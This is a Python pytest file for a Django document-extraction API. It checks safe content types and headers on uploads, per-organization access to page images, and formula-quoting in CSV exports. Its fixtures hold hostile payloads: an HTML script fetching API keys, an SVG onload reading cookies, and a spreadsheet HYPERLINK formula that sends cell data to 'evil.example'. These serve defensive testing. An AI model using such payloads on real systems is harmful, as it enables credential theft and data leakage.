"""Uploaded bytes are never served as something a browser would run, page images only go to
the document's organization, and exported CSV cells never start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from accounts.web_tenancy import SESSION_ORG_KEY
from docgen import SIMPLE_INVOICE_SCHEMA, simple_invoice_pdf
from extractions.models import Document, DocumentStatus
from extractions.storage import SAFE_CONTENT_TYPES
from parsers.services import create_parser
from tests.conftest import api_client_for_user
from tests.media import _media_in_tmp  # noqa: F401
from tests.reliability.mutants import image_bytes

pytestmark = pytest.mark.django_db

HTML = b"<html><body><script>fetch('/v1/api-keys').then(r=>r.text()).then(alert)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'


@pytest.fixture
def parser_a(org_a):
    return create_parser(organization=org_a.organization, name="Inv", schema=SIMPLE_INVOICE_SCHEMA)


def _submit(client, parser, name: str, data: bytes, content_type: str) -> Document:
    response = client.post(
        "/v1/extractions",
        {"parser_id": parser.public_id, "files": [SimpleUploadedFile(name, data, content_type)]},
        format="multipart",
    )
    assert response.status_code == 202, response.content
    public_id = response.json()["extraction"]["documents"][0]["document_id"]
    return Document.objects.select_related("extraction").get(public_id=public_id)


def _url(document: Document, tail: str) -> str:
    return f"/v1/extractions/{document.extraction.public_id}/documents/{document.public_id}/{tail}"


@pytest.mark.parametrize(
    ("name", "data", "claimed_type", "served_type"),
    [
        # Valid PDFs / images with HTML or SVG in them, named and typed as web pages.
        ("invoice.html", HTML + simple_invoice_pdf(), "text/html", "application/pdf"),
        ("drawing.svg", image_bytes("PNG") + SVG, "image/svg+xml", "image/png"),
        ("x.gif", image_bytes("GIF") + HTML, "text/html", "image/gif"),
    ],
)
def test_uploaded_files_are_attachments_of_a_safe_type(
    client_a, parser_a, name, data, claimed_type, served_type
):
    document = _submit(client_a, parser_a, name, data, claimed_type)
    response = client_a.get(_url(document, "file"))
    assert response.status_code == 200
    assert response["Content-Type"] == served_type  # sniffed from the bytes, not the claim
    assert response["Content-Type"] in SAFE_CONTENT_TYPES
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == data  # the bytes, unchanged


def test_html_and_svg_are_refused_outright(client_a, parser_a):
    for name, data in (("page.html", HTML), ("drawing.svg", SVG)):
        response = client_a.post(
            "/v1/extractions",
            {"parser_id": parser_a.public_id, "files": [SimpleUploadedFile(name, data)]},
            format="multipart",
        )
        assert response.status_code == 400
        assert response.json()["error"]["code"] == "UNSUPPORTED_FILE_TYPE"
        staged = client_a.post(
            "/v1/files", {"file": SimpleUploadedFile(name, data)}, format="multipart"
        )
        assert staged.status_code == 400, staged.content


def test_page_images_only_for_their_organization(
    client_a, client_b, parser_a, org_a, org_b, anon_client
):
    document = _submit(client_a, parser_a, "i.pdf", simple_invoice_pdf(), "application/pdf")
    url = _url(document, "pages/1.png")
    own = api_client_for_user(org_a.member, org_a.organization).get(url)
    assert own.status_code == 200 and own["Content-Type"] == "image/png"
    assert own["X-Content-Type-Options"] == "nosniff"
    assert own.content[:8] == b"\x89PNG\r\n\x1a\n"
    for outsider in (client_b, api_client_for_user(org_b.member, org_b.organization)):
        response = outsider.get(url)
        assert response.status_code == 404
        assert response.json()["error"]["code"].endswith("_NOT_FOUND")
    assert anon_client.get(url).status_code == 401

    # The dashboard's twin of the page image, with a session.
    web_url = reverse(
        "web:document-page", args=[document.extraction.public_id, document.public_id, 1]
    )
    member = Client()
    member.force_login(org_a.member)
    assert member.get(web_url).status_code == 200
    outsider = Client()
    outsider.force_login(org_b.owner)
    assert outsider.get(web_url).status_code == 404
    # Even with org A forced into its session, org B's owner is no member of org A.
    session = outsider.session
    session[SESSION_ORG_KEY] = org_a.organization.public_id
    session.save()
    assert outsider.get(web_url).status_code in (302, 404)
    assert b"\x89PNG" not in outsider.get(web_url).content
    anonymous = Client().get(web_url)
    assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]


def test_csv_export_quotes_cells_a_spreadsheet_would_run(client_a, parser_a, org_a):
    document = _submit(client_a, parser_a, "i.pdf", simple_invoice_pdf(), "application/pdf")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Document.objects.filter(pk=document.pk).update(
        status=DocumentStatus.COMPLETED,
        initial_output={
            "invoice_number": hostile,
            "invoice_date": "@SUM(1+1)",
            "total": -12.5,
            "paid": None,
        },
    )
    member = Client()
    member.force_login(org_a.member)
    response = member.get(
        reverse("web:document-csv", args=[document.extraction.public_id, document.public_id])
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["invoice_number"] == "'" + hostile
    assert cells["invoice_date"] == "'@SUM(1+1)"
    assert cells["total"] == "-12.5"  # a number stays a number
    # The JSON download keeps the value as extracted (JSON is not run by spreadsheets).
    as_json = member.get(
        reverse("web:document-json", args=[document.extraction.public_id, document.public_id])
    )
    assert json.loads(as_json.content)["data"]["invoice_number"] == hostile
